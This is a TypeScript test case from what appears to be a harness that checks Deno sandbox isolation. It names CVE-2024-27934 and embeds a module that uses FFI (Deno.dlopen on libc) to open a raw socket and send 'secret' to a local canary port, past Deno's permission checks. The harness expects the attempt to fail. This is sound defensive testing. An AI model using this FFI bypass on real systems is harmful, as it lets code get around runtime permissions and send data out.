import { type Attack, js } from "../attack.ts";
import { alteredCell, holding } from "../controls/altered_cell.ts";
import { canaryHit } from "../proofs.ts";

export default {
  name: "native_code_connects",
  what: "Runs native code of its own, as a pointer used after it was freed once let it, and " +
    "connects past every check of Deno's; the process itself has no network.",
  advisory: "CVE-2024-27934",
  module: js`
    export default {
      async run(at, ctx) {
        const { symbols: libc } = Deno.dlopen("libc.so.6", {
          socket: { parameters: ["i32", "i32", "i32"], result: "i32" },
          connect: { parameters: ["i32", "buffer", "u32"], result: "i32" },
          write: { parameters: ["i32", "buffer", "usize"], result: "isize" },
        });
        const [family, stream] = [2, 1];
        const address = new Uint8Array([family, 0, at.tcpPort >> 8, at.tcpPort, 127, 0, 0, 1]);
        const padded = new Uint8Array(16);
        padded.set(address);
        const socket = libc.socket(family, stream, 0);
        if (libc.connect(socket, padded, padded.length) !== 0) return "no network";
        libc.write(socket, new TextEncoder().encode("secret"), 6n);
        return "sent";
      },
    };`,
  rights: holding("ffi"),
  expect: { outcome: "ok", result: "no network" },
  control: alteredCell("the network of the machine", { args: [["-cn", "-c"]] }),
  proof: canaryHit("tcp"),
} satisfies Attack;
